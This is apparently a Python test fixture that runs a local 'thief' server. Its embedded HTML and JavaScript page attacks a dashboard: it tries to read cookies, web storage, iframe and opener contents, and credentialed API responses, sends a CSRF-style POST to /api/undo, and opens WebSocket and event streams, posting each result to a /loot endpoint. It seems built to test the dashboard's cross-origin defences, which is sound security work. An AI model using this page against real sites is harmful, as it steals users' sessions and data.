"""A server of somebody else on another port of this machine, and the page with which it looks for what it may take."""

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

# Each try sends home what it got. The last one says that all of them are through.
PAGE = """<!doctype html><html lang="en"><meta charset="utf-8"><title>thief</title>
<img src="/picture" alt=""><iframe src="/frame"></iframe><iframe src="DASHBOARD/"></iframe>
<script src="DASHBOARD/static/tools/session.js"></script><script>
const home = (name, value) => fetch("/loot", { method: "POST", body: JSON.stringify([name, String(value)]) });
const read = (path, options) => async () =>
  (await fetch("DASHBOARD" + path, { credentials: "include", ...options })).text();
const post = (options) => read("/api/undo", { method: "POST", body: '{"dry_run": true}', ...options });
const socket = (address) => () => new Promise((resolve) => {
  const made = new WebSocket(address);
  made.onmessage = ({ data }) => resolve(data);
  made.onerror = () => resolve("refused");
});
const stream = () => new Promise((resolve) => {
  const source = new EventSource("DASHBOARD/api/events", { withCredentials: true });
  source.addEventListener("status", ({ data }) => { source.close(); resolve(data); });
  source.onerror = () => { source.close(); resolve("refused"); };
});
const tries = {
  here: () => [location.href, document.referrer, document.cookie, window.name],
  kept: () => JSON.stringify([{ ...sessionStorage }, { ...localStorage }]),
  opener: () => [window.opener?.location.href, JSON.stringify(window.opener?.sessionStorage)],
  frame: () => frames[1].document.documentElement.outerHTML,
  framed: () => JSON.stringify(frames[1].sessionStorage),
  read: read("/api/session"),
  blind: read("/api/session", { mode: "no-cors" }),
  page: read("/"),
  script: read("/static/main.js"),
  act: post({ mode: "no-cors" }),
  asked: post({ headers: { "Content-Type": "application/json" } }),
  stream,
  socket: socket("ws://" + location.host + "/socket"),
  theirs: socket("DASHBOARD/api/events".replace("http", "ws")),
};
(async () => {
  for (const [name, attempt] of Object.entries(tries)) {
    try { await home(name, await attempt()); } catch (error) { await home(name, error); }
  }
  await home("through", "");
})();
</script></html>
"""


@dataclass(frozen=True)
class Taken:
    """One request as the thief got it."""

    line: str
    headers: dict[str, str]
    body: str


@dataclass
class Thief:
    """What it got."""

    base: str
    taken: list[Taken] = field(default_factory=list)
    through: threading.Semaphore = field(default_factory=lambda: threading.Semaphore(0))

    @property
    def loot(self) -> list[tuple[str, str]]:
        """What its page sent home: which try, and what came of it."""
        bodies = [json.loads(each.body) for each in self.taken if each.body]
        return [(name, value) for name, value in bodies]


@contextmanager
def thief(dashboard: str) -> Iterator[Thief]:
    """Serve its page, which attacks the dashboard at this address, until the block ends."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self._take()
            page = PAGE.replace("DASHBOARD", dashboard).encode() if self.path.startswith("/visit") else b""
            self._answer(page)

        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers["Content-Length"])).decode()
            self._take(body)
            self._answer(b"")
            if json.loads(body)[0] == "through":
                found.through.release()

        def log_message(self, *_args: Any) -> None:
            pass

        def _take(self, body: str = "") -> None:
            found.taken.append(Taken(self.requestline, dict(self.headers.items()), body))

        def _answer(self, page: bytes) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(page)))
            self.end_headers()
            self.wfile.write(page)

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        found = Thief(f"http://127.0.0.1:{server.server_address[1]}")
        serving = threading.Thread(target=server.serve_forever, daemon=True)
        serving.start()
        try:
            yield found
        finally:
            server.shutdown()
            serving.join()
